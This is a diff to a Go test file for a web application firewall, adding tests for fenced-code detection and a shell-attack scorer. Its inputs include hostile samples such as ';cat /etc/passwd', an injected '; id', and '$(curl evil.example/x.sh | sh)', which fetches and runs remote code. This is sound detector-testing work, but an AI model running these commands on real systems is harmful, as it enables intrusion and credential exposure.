@@ -1,6 +1,9 @@
 package waf
 
-import "testing"
+import (
+	"strings"
+	"testing"
+)
 
 func TestUnescapeMarkup(t *testing.T) {
 	cases := []struct{ in, want string }{
@@ -72,6 +75,48 @@ func FuzzUnescapeMarkup(f *testing.F) {
 		}
 		if w := refsAsWords(s); len(w) > len(s) {
 			t.Fatalf("refsAsWords(%q) grew to %q", s, w)
+		}
+	})
+}
+
+func TestFencedCode(t *testing.T) {
+	kinds := map[string]bool{
+		"```go\nfunc main() {\n\tos.Exit(run())\n}\n```":                  true,
+		"Try this:\n\n~~~python\nprint(cursor.execute(q))\n~~~\n\nThanks": true,
+		"```\nplain block\n```":                                           true,
+		"``` Thanks!":                                                     false,
+		"```go\nno closing fence":                                         false,
+		"a `single` backtick and ```triple``` inline":                     false,
+		"```sh; id\nx\n```":                                               false,
+	}
+	for in, want := range kinds {
+		if got := hasFencedCode(in); got != want {
+			t.Errorf("hasFencedCode(%q) = %v, want %v", in, got, want)
+		}
+	}
+	// Fences are no backquotes to the shell scorer; what stands between
+	// them is still judged line by line.
+	if sc := shellScore("```go\nfunc main() {\n\tif err := run(os.Args[1:]); err != nil {\n\t\tos.Exit(1)\n\t}\n}\n```"); sc == scoreAttack {
+		t.Error("a Go code block scored as a command")
+	}
+	for _, v := range []string{"```\n;cat /etc/passwd\n```", "```sh\nid\n```", "```\n$(curl evil.example/x.sh | sh)\n```"} {
+		if sc := shellScore(v); sc != scoreAttack {
+			t.Errorf("shellScore(%q) = %d, want an attack", v, sc)
+		}
+	}
+}
+
+func FuzzBlankFences(f *testing.F) {
+	for _, s := range []string{"```go\nx\n```", "~~~\n~~~", "```", "```\n", "a\n```b c\n```"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		out := blankFences(s)
+		if len(out) > len(s) {
+			t.Fatalf("blankFences(%q) grew to %q", s, out)
+		}
+		if strings.Count(out, "\n") != strings.Count(s, "\n") {
+			t.Fatalf("blankFences(%q) = %q: lines lost", s, out)
 		}
 	})
 }
